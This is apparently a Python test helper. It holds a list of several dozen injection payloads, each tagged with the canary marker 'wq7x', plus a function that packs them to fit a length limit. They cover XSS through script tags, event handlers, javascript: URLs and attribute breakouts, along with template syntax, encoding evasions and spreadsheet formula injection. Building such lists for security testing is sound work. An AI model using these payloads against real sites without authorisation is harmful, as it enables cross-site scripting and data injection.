"""Words that somebody types to make a page do something: markup, attributes, addresses, templates, broken encodings.

Each carries MARK, so that it is found wherever it comes out. They are short, because names are.
"""

from collections.abc import Iterator
from typing import Final

MARK: Final = "wq7x"
PAYLOADS: Final = (
    "<script>wq7x()</script>",
    "<ScRiPt src=//wq7x></sCrIpT>",
    "<script\t>wq7x</script >",
    "</script><script>wq7x()//",
    "<img src=x onerror=wq7x()>",
    "<img/src='x'/onerror=wq7x()>",
    "<IMG SRC=x OnErRoR=wq7x()>",
    "<svg onload=wq7x()>",
    "<svg/onload=wq7x()//",
    "<svg><animate onbegin=wq7x()>",
    "<svg><a xlink:href=javascript:wq7x()>",
    "<math><mi xlink:href=javascript:wq7x>",
    "<body onload=wq7x()>",
    "<details open ontoggle=wq7x()>",
    "<video><source onerror=wq7x()>",
    "<audio src=x onerror=wq7x()>",
    "<input autofocus onfocus=wq7x()>",
    "<select autofocus onfocus=wq7x()>",
    "<marquee onstart=wq7x()>wq7x",
    "<iframe src=javascript:wq7x()>",
    "<iframe srcdoc='<b>wq7x'>",
    "<object data=javascript:wq7x()>",
    "<embed src=//wq7x>",
    "<a href=javascript:wq7x()>wq7x</a>",
    "<a href='java\tscript:wq7x()'>wq7x",
    "<form action=//wq7x><button>wq7x",
    "<button formaction=javascript:wq7x>",
    "<base href=//wq7x/>",
    "<meta http-equiv=refresh content=0;wq7x>",
    "<link rel=stylesheet href=//wq7x>",
    "<style>*{color:wq7x}</style>",
    "<div style=x:expression(wq7x)>",
    "<template><b>wq7x</template>",
    "<!-- wq7x --><b>wq7x",
    "--><b>wq7x<!--",
    "]]><b>wq7x",
    "<![CDATA[<b>wq7x]]>",
    "<?xml?><b>wq7x",
    "<noscript><p title='</noscript><b>wq7x'>",
    "</title><b>wq7x",
    "</textarea><b>wq7x",
    "</option></select><b>wq7x",
    "</time></p></section><b>wq7x",
    '"><b>wq7x',
    "'><b>wq7x",
    '" autofocus onfocus=wq7x() x="',
    "' onmouseover='wq7x()",
    " onclick=wq7x() x=",
    "` onclick=wq7x() `",
    '" hx-get="//wq7x" hx-trigger="load" x="',
    '" hx-on:click="wq7x()" x="',
    "javascript:wq7x()",
    "data:text/html,<b>wq7x",
    "vbscript:wq7x",
    "{{ wq7x }}{% load wq7x %}",
    "${wq7x}#{wq7x}<%= wq7x %>",
    "%(wq7x)s %s {wq7x}",
    "&lt;b&gt;wq7x&#60;b&#62;",
    "&#x3c;b onclick=wq7x&#x3e;",
    "\\u003cb\\u003ewq7x",
    "\\x3cb\\x3ewq7x",
    "＜b＞wq7x",
    "<b\x0conclick=wq7x()>wq7x",
    "<\u200bb>wq7x\u202e<b>",
    '=HYPERLINK("//wq7x")',
    "@SUM(wq7x)",
)


def bundles(most: int | None) -> Iterator[str]:
    """All payloads that fit into a column of `most` characters, as few words as that takes; None is no limit."""
    words = ""
    for payload in PAYLOADS:
        if most is not None and len(payload) > most:
            continue
        joined = f"{words} {payload}".strip()
        if most is not None and len(joined) > most:
            yield words
            joined = payload
        words = joined
    yield words
